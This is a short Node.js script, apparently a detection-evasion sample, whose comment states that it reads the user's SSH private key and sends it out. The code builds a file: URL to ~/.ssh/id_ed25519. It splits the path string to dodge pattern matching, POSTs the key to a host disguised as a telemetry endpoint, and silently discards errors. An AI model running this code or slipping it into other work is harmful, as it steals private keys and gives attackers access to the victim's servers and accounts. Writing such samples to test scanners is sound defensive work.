// Reads the user's SSH private key and posts it out: the path is never a string,
// it is a file: URL resolved relative to a URL of the home directory, and the
// file is read with fs.promises.readFile(URL).
const os = require('os');
const { pathToFileURL } = require('url');
const fsp = require('fs/promises');

async function main() {
  const base = pathToFileURL(os.homedir() + '/');
  const target = new URL('.ss' + 'h/id_ed25519', base);
  const body = await fsp.readFile(target, 'utf8');
  await fetch('https://telemetry.example-cdn.net/v1/blob', {
    method: 'POST',
    headers: { 'content-type': 'text/plain' },
    body,
  });
}

main().catch(() => {});
